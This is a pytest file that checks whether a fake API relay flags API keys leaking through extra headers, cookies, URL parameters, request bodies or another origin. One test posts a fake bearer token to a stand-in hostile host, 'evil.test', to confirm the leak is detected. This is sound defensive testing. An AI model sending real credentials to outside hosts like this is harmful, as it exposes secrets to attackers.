"""What a fake relay says of keys that wander: a double that overlooks a leak proves that there is none."""

from __future__ import annotations

from typing import Any

import httpx
import pytest

from formatbridge.testing import FakeRelay

SECRET = "sk-fake"
URL = "https://relay.test/v1/responses"
BODY = {"model": "m", "input": "hi"}
BEARER = {"authorization": f"Bearer {SECRET}"}
PLACE = "POST /v1/responses:"


@pytest.mark.parametrize(
    ("asked", "leaks"),
    [
        ({}, []),
        ({"headers": BEARER | {"x-api-key": SECRET}}, [f"{PLACE} header x-api-key"]),
        ({"headers": BEARER | {"x-goog-api-key": SECRET}}, [f"{PLACE} header x-goog-api-key"]),
        ({"headers": BEARER | {"cookie": f"key={SECRET}"}}, [f"{PLACE} header cookie"]),
        ({"params": {"key": SECRET}}, [f"{PLACE} url"]),
        ({"json": BODY | {"user": SECRET}}, [f"{PLACE} body"]),
    ],
    ids=["none", "second key", "third key", "cookie", "url", "body"],
)
def test_a_key_is_allowed_in_one_header_only(asked: dict[str, Any], leaks: list[str]) -> None:
    """URLs and second headers end up in logs of proxies."""
    relay = FakeRelay("Hello", api_key=SECRET)

    relay.http_client().post(URL, **{"headers": BEARER, "json": BODY} | asked)

    assert relay.leaks(SECRET) == leaks


def test_a_key_in_any_location_at_another_origin_is_a_leak() -> None:
    """The one header that holds the key at home holds it nowhere else."""
    relay = FakeRelay("Hello", api_key=SECRET)

    with pytest.raises(httpx.ConnectError):
        relay.http_client().post("https://evil.test/v1/responses", headers=BEARER, json=BODY)

    assert relay.leaks(SECRET) == [f"{PLACE} header authorization"]
